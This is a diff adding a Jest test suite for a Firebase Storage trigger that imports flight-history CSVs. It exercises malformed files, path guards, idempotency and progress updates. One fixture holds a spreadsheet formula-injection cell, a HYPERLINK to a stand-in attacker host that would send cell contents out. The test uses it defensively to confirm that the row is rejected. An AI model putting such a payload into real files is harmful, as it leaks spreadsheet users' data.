@@ -1,0 +1,272 @@
+/**
+ * `onImportUploaded` through firebase-functions-test with a realistic Storage CloudEvent, against the in-memory
+ * repository and a local-directory storage: the real exports in ../shared/samples, malformed files, the guards,
+ * idempotency (redelivery, re-upload), progress updates and the one recompute per import.
+ */
+// helpers first: it initialises firebase-functions-test (FIREBASE_CONFIG) before the function modules load.
+import { NOW, change, fft, profile, seg, setUpEnv, tearDownEnv, type TestEnv } from './helpers';
+import * as fs from 'node:fs';
+import * as crypto from 'node:crypto';
+import { onImportUploaded } from '../../functions/src/triggers/onImportUploaded';
+import { onSegmentWritten } from '../../functions/src/triggers/onSegmentWritten';
+import { BACKEND_MARKER_KEY, BACKEND_MARKER_VALUE } from '../../functions/src/services/importJob';
+import { syntheticFlightsCsv } from '../../functions/src/bench/flights';
+import type { ImportDoc } from '../../functions/src/model/documents';
+import { describeWithSamples, listSampleFiles, samplePath } from '../helpers/samples';
+
+const wrapped = fft.wrap(onImportUploaded);
+const UID = 'bob';
+const BUCKET = 'demo-travel-time-tracker.appspot.com';
+
+let env: TestEnv;
+beforeEach(() => {
+  env = setUpEnv();
+});
+afterEach(() => {
+  tearDownEnv(env);
+  delete process.env.IMPORT_MAX_BYTES;
+  delete process.env.IMPORT_MAX_ROWS;
+});
+
+/** Stores the file and builds the object-finalized CloudEvent Cloud Storage would send for it. */
+async function upload(
+  objectName: string,
+  content: Buffer | string,
+  opts: { contentType?: string; metadata?: Record<string, string>; eventId?: string; timeCreated?: Date } = {},
+) {
+  await env.storage.write(objectName, content);
+  const size = Buffer.byteLength(content);
+  return {
+    id: opts.eventId ?? `evt-${crypto.randomUUID()}`,
+    source: `//storage.googleapis.com/projects/_/buckets/${BUCKET}`,
+    subject: `objects/${objectName}`,
+    bucket: BUCKET,
+    data: {
+      name: objectName,
+      bucket: BUCKET,
+      // The Storage JSON API sends int64 values as strings.
+      size: String(size) as unknown as number,
+      contentType: opts.contentType ?? 'text/csv',
+      timeCreated: (opts.timeCreated ?? NOW).toISOString(),
+      updated: (opts.timeCreated ?? NOW).toISOString(),
+      metadata: opts.metadata ?? {},
+    },
+  };
+}
+
+function importDoc(importId: string, uid = UID): ImportDoc | undefined {
+  return env.repo.snapshot().users[uid]?.imports[importId];
+}
+
+function segmentsOf(uid = UID) {
+  return env.repo.snapshot().users[uid]?.segments ?? {};
+}
+
+/** A manual segment the user already has: an import must never change or remove it. */
+async function givenExistingSegment() {
+  await env.repo.createProfileIfAbsent(UID, profile());
+  const manual = seg('US', 'FR', '2026-06-01', '2026-06-02', { notes: 'typed by hand' });
+  await env.repo.putSegment(UID, 'manual-1', manual);
+  return manual;
+}
+
+describe('malformed files end in failed or partial with a clear reason, and keep existing segments', () => {
+  const garbage10MB = (): Buffer => {
+    // Printable garbage (no NUL bytes) with line breaks: it must be rejected as an unknown format or by size.
+    const r = crypto.randomBytes(10 * 1024 * 1024);
+    for (let i = 0; i < r.length; i++) r[i] = i % 120 === 119 ? 10 : 33 + (r[i]! % 94);
+    return r;
+  };
+  const cases: { name: string; content: () => Buffer | string; status: ImportDoc['status']; reason: RegExp; env?: Record<string, string> }[] = [
+    { name: 'an empty file', content: () => '', status: 'failed', reason: /empty/i },
+    { name: 'a binary file (PNG header and random bytes)', content: () => Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), crypto.randomBytes(4096)]), status: 'failed', reason: /binary|not a text|unrecognised/i },
+    { name: 'a file with only a header', content: () => 'date,from,to,flight_number\n', status: 'failed', reason: /no (data|flight) rows/i },
+    { name: 'a 10 MB file of garbage (over the 5 MB limit)', content: garbage10MB, status: 'failed', reason: /10\.0 MB, larger than the 5\.0 MB limit/ },
+    { name: 'a 10 MB file of garbage (limit raised to 20 MB: the parser rejects it)', content: garbage10MB, status: 'failed', reason: /unrecognised|format|line/i, env: { IMPORT_MAX_BYTES: String(20 * 1024 * 1024) } },
+    {
+      name: 'a CSV with a formula-injection cell',
+      content: () => 'date,from,to,flight_number,notes\n2026-03-01,JFK,CDG,AF7,ok\n2026-03-10,=HYPERLINK("http://evil.example/?x="&A1;"click"),JFK,AF8,x\n',
+      status: 'partial',
+      reason: /row 3/,
+    },
+  ];
+  test.each(cases)('$name', async ({ content, status, reason, env: vars }) => {
+    Object.assign(process.env, vars ?? {});
+    const manual = await givenExistingSegment();
+    const before = segmentsOf();
+    await wrapped(await upload(`users/${UID}/imports/bad1.csv`, content()));
+    const doc = importDoc('bad1')!;
+    expect(doc.status).toBe(status);
+    const text = status === 'failed' ? doc.error! : doc.skipped.map((s) => `row ${s.row}: ${s.reason}`).join('\n');
+    expect(text).toMatch(reason);
+    // Nothing stored starts like a spreadsheet formula.
+    for (const s of doc.skipped) expect(s.reason).not.toMatch(/^[=+\-@]/);
+    for (const s of Object.values(segmentsOf())) for (const v of Object.values(s)) if (typeof v === 'string') expect(v).not.toMatch(/^[=+@]/);
+    // The user's existing segment is unchanged, none lost.
+    expect(segmentsOf()['manual-1']).toEqual(manual);
+    for (const [id, s] of Object.entries(before)) expect(segmentsOf()[id]).toEqual(s);
+  });
+});
+
+describe('guards', () => {
+  test('an object outside users/{uid}/imports/ is ignored: no document, no segment', async () => {
+    const out = await wrapped(await upload('public/banner.csv', 'date,from,to\n2026-01-01,JFK,CDG\n'));
+    expect(out).toEqual({ action: 'ignored', reason: 'not an import path' });
+    expect(env.repo.snapshot().users).toEqual({});
+  });
+
+  test('an object the backend wrote itself (metadata marker) is ignored', async () => {
+    const out = await wrapped(
+      await upload(`users/${UID}/imports/exp.csv`, 'date,from,to\n2026-01-01,JFK,CDG\n', { metadata: { [BACKEND_MARKER_KEY]: BACKEND_MARKER_VALUE } }),
+    );
+    expect(out).toEqual({ action: 'ignored', reason: 'written by the backend' });
+    expect(importDoc('exp')).toBeUndefined();
+  });
+
+  test.each([
+    ['a PDF content type', 'x.csv', 'application/pdf', /content type application\/pdf is not a text or CSV file/],
+    ['a .xlsx extension', 'x.xlsx', 'text/csv', /\.xlsx are not accepted/],
+  ])('%s fails with a reason', async (_n, file, contentType, reason) => {
+    await wrapped(await upload(`users/${UID}/imports/${file}`, 'date,from,to\n2026-01-01,JFK,CDG\n', { contentType }));
+    const doc = importDoc('x')!;
+    expect(doc.status).toBe('failed');
+    expect(doc.error).toMatch(reason);
+  });
+
+  test('more rows than IMPORT_MAX_ROWS fails and stores no segment', async () => {
+    process.env.IMPORT_MAX_ROWS = '50';
+    await wrapped(await upload(`users/${UID}/imports/many.csv`, syntheticFlightsCsv(120)));
+    const doc = importDoc('many')!;
+    expect(doc.status).toBe('failed');
+    expect(doc.error).toMatch(/50/);
+    expect(segmentsOf()).toEqual({});
+  });
+});
+
+describe('a good file', () => {
+  test('becomes segments with deterministic ids, one recompute, bounded progress writes', async () => {
+    const manual = await givenExistingSegment();
+    const csv = syntheticFlightsCsv(3_000, 11, '2020-01-01');
+    // A clock that advances 1 s per call makes the 2 s progress throttle observable.
+    let t = NOW.getTime();
+    env.clock.now = NOW;
+    const { setHandlerDeps } = await import('../../functions/src/triggers/deps');
+    setHandlerDeps({
+      repo: env.repo,
+      storage: env.storage,
+      auth: env.auth,
+      clock: () => new Date((t += 1000)),
+      sleep: async (ms) => {
+        t += ms;
+      },
+    });
+    const putImport = jest.spyOn(env.repo, 'putImport');
+    await wrapped(await upload(`users/${UID}/imports/good.csv`, csv, { timeCreated: NOW }));
+    const doc = importDoc('good')!;
+    expect(['succeeded', 'partial']).toContain(doc.status);
+    expect(doc.counts.rows).toBe(3_000);
+    expect(doc.counts.flights + doc.counts.skipped).toBe(3_000);
+    expect(doc.counts.imported + doc.counts.duplicates).toBe(doc.counts.flights);
+    expect(doc.rowsDone).toBe(3_000);
+    const segs = segmentsOf();
+    expect(Object.keys(segs).filter((id) => id.startsWith('imp-'))).toHaveLength(doc.counts.imported);
+    expect(Object.values(segs).filter((s) => s.source === 'good')).toHaveLength(doc.counts.imported);
+    expect(segs['manual-1']).toEqual(manual);
+    // Exactly one recompute for the whole file, and the status reflects every segment.
+    expect(env.logs.filter((l) => l.message === 'recompute.done')).toHaveLength(1);
+    const status = env.repo.snapshot().users[UID]!.visaStatus['schengen-90-180']!;
+    expect(status).toBeDefined();
+    // Import-document writes: queued, processing, final, and progress at most once per 1 000 rows and 2 s
+    // (never one per row): here at least one progress update, at most three.
+    const progressWrites = putImport.mock.calls.filter(([, , patch]) => patch.status === undefined).length;
+    expect(putImport.mock.calls.length - progressWrites).toBe(3);
+    expect(progressWrites).toBeGreaterThanOrEqual(1);
+    expect(progressWrites).toBeLessThanOrEqual(3);
+  });
+
+  test('the same event twice, and the same file uploaded again under a new id, create no duplicates', async () => {
+    await givenExistingSegment();
+    const csv = syntheticFlightsCsv(200, 3, '2024-01-01');
+    const event = await upload(`users/${UID}/imports/a.csv`, csv, { eventId: 'evt-a', timeCreated: NOW });
+    env.clock.now = new Date(NOW.getTime() + 5_000);
+    await wrapped(event);
+    const afterFirst = env.repo.snapshot();
+    const docA = importDoc('a')!;
+    expect(docA.counts.imported).toBeGreaterThan(0);
+
+    env.clock.now = new Date(NOW.getTime() + 10_000);
+    expect(await wrapped(event)).toEqual({ action: 'ignored', reason: 'already processed' });
+    expect(env.repo.snapshot()).toEqual(afterFirst);
+
+    await wrapped(await upload(`users/${UID}/imports/b.csv`, csv, { timeCreated: env.clock.now }));
+    const docB = importDoc('b')!;
+    expect(docB.counts.imported).toBe(0);
+    expect(docB.counts.duplicates).toBe(docA.counts.imported + docA.counts.duplicates);
+    expect(segmentsOf()).toEqual(afterFirst.users[UID]!.segments);
+    // The original file is kept.
+    expect(env.storage.exists(`users/${UID}/imports/a.csv`)).toBe(true);
+  });
+
+  test('the N segment events the import causes are all skipped afterwards: at most 2 reads each, no write', async () => {
+    await env.repo.createProfileIfAbsent(UID, profile());
+    const csv = syntheticFlightsCsv(400, 9, '2025-06-01');
+    const commitTime = NOW;
+    await wrapped(await upload(`users/${UID}/imports/n.csv`, csv));
+    const created = Object.entries(segmentsOf()).filter(([, s]) => s.source === 'n');
+    expect(created.length).toBeGreaterThan(300);
+    const statusBefore = env.repo.snapshot().users[UID]!.visaStatus;
+    env.repo.resetCounts();
+    const onWrite = fft.wrap(onSegmentWritten);
+    const outcomes = new Set<string>();
+    for (const [id, s] of created) {
+      const out = await onWrite({
+        id: `evt-${id}`,
+        time: commitTime.toISOString(),
+        params: { uid: UID, segmentId: id },
+        data: change(null, s, `users/${UID}/segments/${id}`),
+      });
+      outcomes.add(JSON.stringify(out));
+    }
+    expect([...outcomes]).toEqual([JSON.stringify({ action: 'skipped', reason: 'already-reflected' })]);
+    expect(env.repo.counts.writes).toBe(0);
+    expect(env.repo.counts.reads).toBeLessThanOrEqual(2 * created.length);
+    expect(env.repo.snapshot().users[UID]!.visaStatus).toEqual(statusBefore);
+  });
+
+  test('a segment typed by hand on the same dates between the same countries counts as a duplicate', async () => {
+    await env.repo.createProfileIfAbsent(UID, profile());
+    await env.repo.putSegment(UID, 'manual-1', seg('US', 'FR', '2026-03-01', '2026-03-01'));
+    await wrapped(await upload(`users/${UID}/imports/d.csv`, 'date,from,to,flight_number\n2026-03-01,JFK,CDG,AF7\n2026-03-10,CDG,JFK,AF8\n'));
+    const doc = importDoc('d')!;
+    expect(doc.status).toBe('succeeded');
+    expect(doc.counts).toMatchObject({ rows: 2, flights: 2, imported: 1, duplicates: 1, skipped: 0 });
+  });
+});
+
+describeWithSamples('real exports from ../shared/samples', () => {
+  const files = listSampleFiles(['.csv', '.txt']);
+  test('there are sample files to import', () => expect(files.length).toBeGreaterThan(5));
+  test.each(files)('%s', async (rel) => {
+    const manual = await givenExistingSegment();
+    const importId = `s-${crypto.createHash('sha1').update(rel).digest('hex').slice(0, 12)}`;
+    const ext = rel.endsWith('.txt') ? 'txt' : 'csv';
+    const content = fs.readFileSync(samplePath(rel));
+    const event = await upload(`users/${UID}/imports/${importId}.${ext}`, content, { contentType: ext === 'txt' ? 'text/plain' : 'text/csv' });
+    await wrapped(event);
+    const doc = importDoc(importId)!;
+    expect(['succeeded', 'partial', 'failed']).toContain(doc.status);
+    if (doc.status === 'failed') expect(doc.error).toMatch(/\w{10,}/);
+    else {
+      expect(doc.counts.flights).toBeGreaterThan(0);
+      expect(doc.counts.flights + doc.counts.skipped).toBe(doc.counts.rows);
+      if (doc.status === 'partial') for (const s of doc.skipped) expect(s.reason.length).toBeGreaterThan(5);
+      expect(Object.values(segmentsOf()).filter((s) => s.source === importId)).toHaveLength(doc.counts.imported);
+    }
+    expect(segmentsOf()['manual-1']).toEqual(manual);
+    // Redelivery changes nothing.
+    const snap = env.repo.snapshot();
+    env.clock.now = new Date(NOW.getTime() + 60_000);
+    await wrapped(event);
+    expect(env.repo.snapshot()).toEqual(snap);
+  });
+});
